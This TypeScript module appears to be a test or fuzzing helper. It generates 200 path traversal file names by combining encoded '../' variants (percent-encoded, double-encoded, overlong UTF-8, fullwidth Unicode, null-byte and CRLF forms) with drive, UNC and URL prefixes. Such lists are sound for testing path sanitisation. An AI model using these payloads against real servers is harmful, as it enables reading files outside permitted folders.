/** Ways to write `../` and `/` that some server, proxy or file system resolves. */
const parents = [
  '../',
  '..\\',
  './../',
  '....//',
  '..././',
  '..;/',
  '%2e%2e/',
  '%2e%2e%2f',
  '..%2f',
  '..%5c',
  '%252e%252e%252f',
  '..%c0%af',
  '..%ef%bc%8f',
  '\uff0e\uff0e/',
  '..\u2215',
  '..\u2044',
  '..\uff0f',
  '..\0/',
  '..\r\n/',
  '.. /',
]
const starts = ['', '/', '\\', 'file:///', 'C:\\', '\\\\host\\share\\', '~/', './']

/** Two hundred names that try to reach the file `name` outside of the folder that they are put into. */
export const traversals = (name: string): string[] =>
  Array.from({ length: 200 }, (_, index) => {
    const parent = parents[index % parents.length] ?? ''
    const start = starts[Math.floor(index / parents.length) % starts.length] ?? ''
    const depth = 1 + Math.floor(index / (parents.length * starts.length)) * 4 + (index % 3)
    return `${start}${parent.repeat(depth)}${name}`
  })
